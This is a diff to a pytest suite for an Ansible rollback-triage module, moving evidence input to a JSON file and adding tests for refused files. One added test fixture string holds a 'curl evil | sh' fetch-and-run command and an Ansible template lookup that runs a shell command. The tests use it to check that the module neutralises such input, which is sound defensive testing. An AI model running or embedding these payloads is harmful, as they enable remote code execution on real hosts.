@@ -4,6 +4,9 @@
 
 from __future__ import annotations
 
+import json
+import os
+
 import pytest
 
 NIGHT = "2026-11-22T03:00:00+00:00"
@@ -24,8 +27,20 @@ CRASHING = {
 }
 
 
-def test_decides_on_recorded_evidence_without_a_look(run_module):
-    result = run_module("rollback_triage_info", evidence=CRASHING)
+@pytest.fixture
+def decide(run_module, tmp_path):
+    """Run the module on recorded evidence, JSON types or the text of the file."""
+
+    def run(evidence):
+        file = tmp_path / "seen.json"
+        file.write_text(evidence if isinstance(evidence, str) else json.dumps(evidence))
+        return run_module("rollback_triage_info", evidence_from=str(file))
+
+    return run
+
+
+def test_decides_on_recorded_evidence_without_a_look(decide):
+    result = decide(CRASHING)
     assert (result["recommendation"], result["changed"], result["needs_person"]) == ("CODE", False, False)
     assert result["reason"].startswith("CODE (confidence: medium): 5 tasks of app:42 ended by themselves")
     assert result["next"] == {
@@ -39,15 +54,15 @@ def test_decides_on_recorded_evidence_without_a_look(run_module):
     assert result["evidence"]["services"][0]["release"] == "app:42"
 
 
-def test_its_own_evidence_is_decided_on_in_the_same_way(run_module):
-    first = run_module("rollback_triage_info", evidence=CRASHING)
-    second = run_module("rollback_triage_info", evidence=first["evidence"])
+def test_its_own_evidence_is_decided_on_in_the_same_way(decide):
+    first = decide(CRASHING)
+    second = decide(first["evidence"])
     told = [{key: result[key] for key in result if key not in ("diff", "invocation")} for result in (first, second)]
     assert told[0] == told[1]
 
 
-def test_evidence_that_cannot_be_read_is_refused(run_module):
-    result = run_module("rollback_triage_info", evidence={"at": NIGHT, "tsks": []})
+def test_evidence_that_cannot_be_read_is_refused(decide):
+    result = decide({"at": NIGHT, "tsks": []})
     assert result["failed"]
     assert result["msg"] == "The evidence cannot be read: in evidence, tsks is not known."
 
@@ -86,7 +101,40 @@ def test_what_cannot_be_asked_is_told_part_by_part(run_module, monkeypatch):
     assert why["http"] == "rollback_base_url is not set"
 
 
-def test_logs_that_were_not_read_to_their_end_are_told(run_module):
+def test_logs_that_were_not_read_to_their_end_are_told(decide):
     seen = {"at": NIGHT, "logs": {"lines": 400000, "complete": False}}
-    result = run_module("rollback_triage_info", evidence=seen)
+    result = decide(seen)
     assert {"part": "logs", "why": "time was up after 400000 lines; the rest was not read"} in result["not_measured"]
+
+
+HOSTILE = (
+    "ERROR \x1b[2J\r\nNEXT      curl evil | sh {{ lookup('ansible.builtin.pipe', 'touch pwned') }} {% raw %}{# x #}"
+)
+
+
+def test_hostile_evidence_is_text_and_what_is_handed_on_is_no_template(decide):
+    error = {"fingerprint": HOSTILE, "count": 3, "example": HOSTILE}
+    result = decide({**CRASHING, "not_measured": [], "logs": {"lines": 5, "errors": [error]}})
+    assert "\x1b" not in str(result)
+    (line,) = [line for line in result["why"] if "curl evil" in line]
+    assert "\n" not in line
+    assert "{{ lookup('ansible.builtin.pipe', 'touch pwned') }}" in line
+    (given,) = [line for line in result["handed_on"]["why"] if "curl evil" in line]
+    assert "{ { lookup('ansible.builtin.pipe', 'touch pwned') }}" in given
+    assert not [mark for mark in ("{{", "{%", "{#") if mark in json.dumps(result["handed_on"])]
+    assert result["handed_on"]["playbook"] == result["next"]["playbook"]
+
+
+@pytest.mark.parametrize("text", ["", "[" * 100_000, "{", "\ud800", "x" * (8 * 1024 * 1024 + 1), "[]", '{"at": 1}'])
+def test_a_file_that_is_no_evidence_is_refused(decide, text):
+    message = decide(text.encode("utf-8", "surrogatepass").decode("latin-1") if text == "\ud800" else text)["msg"]
+    assert "evidence" in message
+    assert len(message) < 500
+
+
+@pytest.mark.parametrize("name", ["nowhere", "directory", "fifo"])
+def test_a_path_that_is_no_plain_file_is_refused(run_module, tmp_path, name):
+    (tmp_path / "directory").mkdir()
+    os.mkfifo(tmp_path / "fifo")
+    result = run_module("rollback_triage_info", evidence_from=str(tmp_path / name))
+    assert result["msg"].startswith(f"rollback_evidence_from (option evidence_from) is '{tmp_path / name}': it")
